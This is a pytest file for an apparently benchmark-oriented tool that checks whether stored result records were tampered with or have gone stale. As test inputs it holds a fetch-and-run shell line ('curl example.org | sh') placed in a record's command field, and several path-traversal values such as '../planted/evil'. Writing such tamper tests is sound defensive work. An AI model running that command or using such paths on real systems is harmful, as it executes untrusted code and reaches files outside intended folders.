"""Verification of whole folders: what is wrong with a record's file is told, and nothing else is."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from compatbench import PROTOCOL_VERSION
from compatbench.data.dataset import Dataset
from compatbench.discovery.plugins import discover
from compatbench.plan.cells import make_plan
from compatbench.plan.selection import EVERYTHING, Selection
from compatbench.records.record import read_record
from compatbench.records.store import Store
from compatbench.storage.array_files import array_path
from compatbench.suite.scenarios import GenerationSpec
from compatbench.suite.suite import Suite, load_suite, parse_suite
from compatbench.trust import checks
from compatbench.trust.problems import Problem, serious
from compatbench.trust.record_files import check_record
from compatbench.trust.rescoring import Rescorer
from compatbench.trust.staleness import stale
from compatbench.trust.today import Today
from compatbench.trust.verify import verify
from compatbench.vocabulary import ParameterSetting

PLANTED = {"query_generation": "1", "gallery_generation": "0", "protocol": "easy", "array": "../planted/evil"}
CHANGES: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "seed": (lambda data: data["spec"].update(seed=1), "its spec_hash is not the hash of its spec"),
    "recipe is no number": (lambda data: data["spec"]["recipe"].update(lr=float("nan")), "spec.recipe.lr: "),
    "spec is no number": (lambda data: data["spec"]["method"]["params"].update(x=float("nan")), "its spec_hash is not"),
    "moved": (lambda data: data["spec"].update(scenario="other"), "is not at the path of"),
    "hash": (lambda data: data.update(spec_hash="0" * 64), "is not at the path of"),
    "protocol": (lambda data: data.update(protocol_version=7), f"protocol 7, but its spec says {PROTOCOL_VERSION}"),
    "command": (lambda data: data.update(command="curl example.org | sh"), "its command is not the one"),
    "path": (lambda data: data.update(error="in /home/me/data/x.png"), "names an absolute path"),
    "failed with scores": (lambda data: data.update(status="failed"), "status failed, and yet it has scores"),
    "a score": (lambda data: data["metrics"][0]["numbers"].update(mAP=[0.9, 0.8, 1.0]), "mAP(0,0): value is"),
    "a failed one that names arrays": (
        lambda data: data.update(status="failed", metrics=[], backfill=[], backfilled=[]),
        "status failed, and yet it has scores: parents, ",
    ),
    "an invalid one with scores": (lambda data: data.update(status="invalid"), "status invalid, and yet it has scores"),
    "an array without a name": (
        lambda data: data["arrays"][1].append("own"),
        "an array has no name in its file; only records of protocol 1",
    ),
    "no file of its own arrays": (lambda data: data["files"].pop("own"), "its arrays are in 'own'"),
    "a failed one of elsewhere": (
        lambda data: data.update(status="failed", protocols=[PLANTED]),
        "protocols.0.array: String should match",
    ),
    "no date": (lambda data: data.update(started="yesterday"), "when it was started is no date"),
    "a date to come": (lambda data: data.update(started="2999-01-01T00:00:00+00:00"), "when it was started is no date"),
    "a negative cost": (
        lambda data: data["costs"].update(train_seconds=-1.0),
        "its train_seconds is -1, which cannot be",
    ),
    "a split": (lambda data: data.update(split_hash="../x"), "split_hash: String should match"),
    "a parent": (lambda data: data["parents"].update({"0": "../x"}), "parents.0: String should match"),
    "a source": (lambda data: data["spec"]["method"].update(source_hash="../x"), "spec.method.source_hash: String"),
    "a fingerprint": (lambda data: data["spec"].update(dataset_fingerprint="f"), "spec.dataset_fingerprint: String"),
    "a commit": (lambda data: data["environment"].update(git_sha="-x"), "environment.git_sha: String should match"),
    "an array of elsewhere": (lambda data: data["files"].update(own="../" * 21 + "x"), "array: String should match"),
    "no numbers": (lambda data: data["metrics"][0].update(numbers=[1]), "numbers: "),
    "no place of an array": (lambda data: data["arrays"][0].pop(), "not a record"),
    "a folder of elsewhere": (lambda data: data["spec"].update(suite="../../x"), "spec.suite: "),
    "no such file": (lambda data: data["files"].update(own="0" * 64), "per-query arrays not readable"),
    "no such array": (lambda data: curve(data).update(array="own#none"), "contains no array 'none'"),
    "the curves of another array": (
        lambda data: curve(data).update(array="own#M(1,0)"),
        "no CurvePoints",
    ),
    "no record": (lambda data: data.clear(), "schema version None"),
}


def curve(data: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = data["backfill"][0]["orders"]["random"]
    return found


def problems(path: Path, store: Store) -> list[Problem]:
    return check_record(path, store, Rescorer(store.arrays))[1]


def test_a_right_record_has_nothing_but_notes(store: Store) -> None:
    paths = list(store.records("historic").rglob("*.json"))
    assert len(paths) == 2
    for path in paths:
        assert serious(problems(path, store)) == []


@pytest.mark.parametrize(("change", "message"), CHANGES.values(), ids=CHANGES)
def test_what_was_changed_is_told_in_one_line(
    store: Store, path: Path, change: Callable[[dict[str, Any]], Any], message: str
) -> None:
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))
    found = [str(problem) for problem in serious(problems(path, store))]
    where = path.relative_to(store.root).as_posix()
    assert any(line.startswith(f"FAIL  {where}: ") and message in line for line in found), found
    assert all(len(line.splitlines()) == 1 for line in found)


def test_changed_arrays_are_told(store: Store, path: Path) -> None:
    file = array_path(store.arrays, read_record(path).arrays[0].array)
    file.write_bytes(file.read_bytes()[:-1] + b"x")
    [found] = serious(problems(path, store))
    assert "were changed after they were written" in found.message


def test_only_what_is_selected_is_told(store: Store, path: Path) -> None:
    path.write_text(path.read_text().replace('"seconds"', '"secunds"'))
    other = next(store.records("historic").rglob("independent--*.json"))
    other.write_text(other.read_text().replace("--scenarios extended_class", "--scenarios no"))
    catalogue = discover()

    def told(selection: Selection) -> list[str]:
        verdict = verify(store, catalogue, (), selection, published=False)
        return [problem.where.rpartition("/")[2] for problem in serious(verdict.problems)]

    assert told(Selection()) == [path.name, other.name]
    assert told(Selection(methods=("bct",))) == [path.name], "what cannot be read is of every selection"
    assert told(Selection(scenarios=("extended_data",))) == [path.name]
    assert told(Selection(methods=("independent",), seeds=(0,))) == [path.name, other.name]


def test_a_link_is_not_followed(store: Store, path: Path, tmp_path: Path) -> None:
    (tmp_path / "outside.json").write_text("{}")
    (path.parent / "link.json").symlink_to(tmp_path / "outside.json")
    verdict = verify(store, discover(), (), Selection(), published=False)
    assert [problem.message for problem in verdict.problems] == ["is a link; put the file itself there"]


@pytest.fixture
def suite() -> Suite:
    return load_suite(str(Path(__file__).parents[1] / "historic" / "historic.yaml"))[1]


STALE: dict[str, tuple[dict[str, Any], dict[str, Any], str]] = {
    "recipe": ({}, {"recipe": {"epochs": 2}}, "the suite's recipe changed"),
    "size": ({"image_size": 32}, {}, "the suite's image_size changed"),
    "indexes": ({}, {"index_search": ["flat"]}, "the suite's index_search changed"),
    "scenario": ({"scenario": "gone"}, {}, "the suite has no scenario 'gone' any more"),
    "chain": ({"generations": (GenerationSpec(backbone="test_vit"),) * 2}, {}, "the suite's generations changed"),
    "tested on": ({"test_classes": "unseen"}, {}, "the suite's test_classes changed"),
    "protocol": ({"protocol": 0}, {}, "made under protocol 0"),
}


@pytest.mark.parametrize(("spec", "settings", "message"), STALE.values(), ids=STALE)
def test_what_changed_in_the_suite_is_told(
    path: Path, suite: Suite, spec: dict[str, Any], settings: dict[str, Any], message: str
) -> None:
    recorded = read_record(path).spec.model_copy(update=spec)
    changed = Suite.model_validate(suite.model_dump(exclude={"defaults"}) | settings)
    assert any(message in reason for reason in stale(recorded, Today(changed, discover())))


def test_a_record_of_two_encoders_is_up_to_date_as_long_as_its_plan_is(suite: Suite, digits: Dataset) -> None:
    towers = {
        "two": [{}, {"query_encoder": {"backbone": "test_resnet"}, "document_encoder": {"small_image_stem": True}}],
        "queries": [{}, {"document_encoder": "previous", "query_encoder": {"pretrained": False}}],
    }
    changed = parse_suite(suite.model_dump(exclude={"scenarios"}, exclude_unset=True) | {"scenarios": towers}, "here")
    catalogue = discover()
    for cell in make_plan("historic", changed, digits, catalogue, Selection()):
        assert list(stale(cell.spec, Today(changed, catalogue))) == [], cell.spec.scenario
        assert any(
            "generations changed" in reason for reason in stale(cell.spec, Today(with_a_vit(changed), catalogue))
        )


def with_a_vit(suite: Suite) -> Suite:
    """The suite with another query encoder in each scenario."""
    data = suite.model_dump(exclude={"defaults"})
    for chain in data["scenarios"].values():
        chain[1]["query_encoder"]["backbone"] = "test_vit2"
    return parse_suite(data, "here")


def test_other_tuned_values_make_a_record_outdated(path: Path, suite: Suite) -> None:
    catalogue = discover()
    plugin, spec = catalogue.get("bct"), read_record(path).spec
    found = {"weight": 3.0}
    method = spec.method.model_copy(
        update={
            "label": "bct(tuned)",
            "setting": ParameterSetting.TUNED,
            "source_hash": plugin.source_hash,
            "params": plugin.resolve(found).model_dump(mode="json"),
        }
    )
    tuned = spec.model_copy(update={"method": method, "protocol": PROTOCOL_VERSION})
    today = suite.model_copy(update={"settings": ("tuned", "published"), "tuned": {"bct": found}})
    assert list(stale(tuned, Today(today, catalogue))) == []
    later = today.model_copy(update={"tuned": {"bct": {"weight": 2.0}}})
    assert list(stale(tuned, Today(later, catalogue))) == ["the suite's tuned values of 'bct(tuned)' changed"]
    same, other = (today.model_copy(update={"tuned_with": {"bct": one}}) for one in (plugin.source_hash, "0" * 64))
    assert list(stale(tuned, Today(same, catalogue))) == []
    assert list(stale(tuned, Today(other, catalogue))) == ["'bct(tuned)' was tuned for other code of method 'bct'"]


def test_what_changed_in_the_method_is_told(path: Path, suite: Suite) -> None:
    spec, catalogue = read_record(path).spec, discover()
    plugin = catalogue.get("bct")
    now = spec.method.model_copy(
        update={"source_hash": plugin.source_hash, "params": plugin.resolve(spec.method.params).model_dump(mode="json")}
    )
    current = spec.model_copy(update={"method": now, "protocol": PROTOCOL_VERSION})
    assert list(stale(current, Today(suite, catalogue))) == []
    changed = {
        "the source of method 'bct' changed": {"source_hash": "0" * 64},
        "no method 'bcc'; did you mean 'bct'?": {"name": "bcc"},
        "method 'bct' has other parameters now": {"params": {}},
    }
    for message, update in changed.items():
        other = current.model_copy(update={"method": now.model_copy(update=update)})
        assert list(stale(other, Today(suite, catalogue))) == [message]
    assert next(stale(current, Today(None, catalogue))) == "there is no suite 'historic' any more"


@pytest.mark.parametrize(("selection", "records"), [(EVERYTHING, 1), (Selection(scenarios=("extended_data",)), 0)])
def test_processes_find_what_one_process_finds(
    store: Store, path: Path, monkeypatch: pytest.MonkeyPatch, selection: Selection, records: int
) -> None:
    path.write_text(path.read_text().replace('"seconds"', '"secunds"'))
    other = next(store.records("historic").rglob("independent--*.json"))
    other.write_text(other.read_text().replace("--scenarios extended_class", "--scenarios no"))
    catalogue = discover()
    alone = verify(store, catalogue, (), selection, published=False)
    monkeypatch.setattr(checks, "MANY", 1)
    monkeypatch.setattr(checks, "cores", lambda: 2)
    shared = verify(store, catalogue, (), selection, published=False)
    assert len(shared.records) == records
    assert (shared.records, shared.problems) == (alone.records, alone.problems)
    assert len(serious(shared.problems)) == 1 + records, "the one that cannot be read, and the command"


def test_what_is_not_selected_is_not_scored(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    scored: list[str] = []
    monkeypatch.setattr(Rescorer, "differences", lambda self, record: scored.append(record.spec.method.name) or ())
    verify(store, discover(), (), Selection(methods=("bct",)), published=False)
    assert scored == ["bct"]


def test_problems_name_the_file_that_is_there(store: Store, path: Path) -> None:
    moved = path.with_name("elsewhere.json")
    path.rename(moved)
    data = json.loads(moved.read_text())
    data["spec"]["recipe"]["epochs"] += 1
    for number in (float("nan"), 1.0):
        data["spec"]["method"]["params"]["x"] = number
        moved.write_text(json.dumps(data))
        problems = verify(store, discover(), (), Selection(methods=("bct",)), published=False).problems
        assert any("its spec_hash is not the hash of its spec" in one.message for one in problems)
        assert {one.where.rpartition("/")[2] for one in problems} == {moved.name}
